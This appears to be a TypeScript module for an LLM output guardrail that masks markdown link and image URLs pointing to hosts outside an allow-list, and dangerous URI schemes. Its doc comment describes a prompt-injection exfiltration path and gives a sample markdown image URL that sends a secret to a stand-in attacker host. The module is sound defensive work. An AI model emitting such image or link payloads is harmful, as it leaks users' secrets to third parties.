import { scanLinks } from './link-scanner.js';
import type { Guardrail, GuardrailFinding, GuardrailVerdict } from './types.js';
import { createUrlPolicy } from './url-policy.js';

/**
 * `markdown_links` (output, SEC-OUT-2): a model tricked by injected content can smuggle data out in a markdown image
 * (`![](https://evil.example/?q=<secret>)`, fetched by the client as soon as it renders) or a link. This guardrail
 * masks link and image targets that are not relative and not on `allowed_hosts`, and every `javascript:`, `data:`
 * and `vbscript:` URI: the link text stays, the URL goes (see link-scanner.ts for every form handled).
 */

export interface MarkdownLinksOptions {
  /** `example.com` (that host) or `*.example.com` (its subdomains); an empty list keeps only relative links. */
  allowedHosts: readonly string[];
}

export function createMarkdownLinksGuardrail(options: MarkdownLinksOptions): Guardrail {
  const policy = createUrlPolicy(options.allowedHosts);
  return {
    name: 'markdown_links',
    check(segments, context): GuardrailVerdict {
      const findings: GuardrailFinding[] = [];
      let masked: string[] | undefined;
      for (let index = 0; index < segments.length; index++) {
        const text = segments[index]!.text;
        const scan = scanLinks(text, policy, context.partial === true);
        if (scan.findings.length === 0) continue;
        masked ??= segments.map((segment) => segment.text);
        masked[index] = scan.text;
        for (const finding of scan.findings) findings.push({ type: finding.type, segment: index, start: finding.start, end: finding.end, detail: finding.reason });
      }
      if (!masked) return { guardrail: 'markdown_links', stage: context.stage, action: 'allow', findings };
      return { guardrail: 'markdown_links', stage: context.stage, action: 'mask', findings, masked };
    },
  };
}
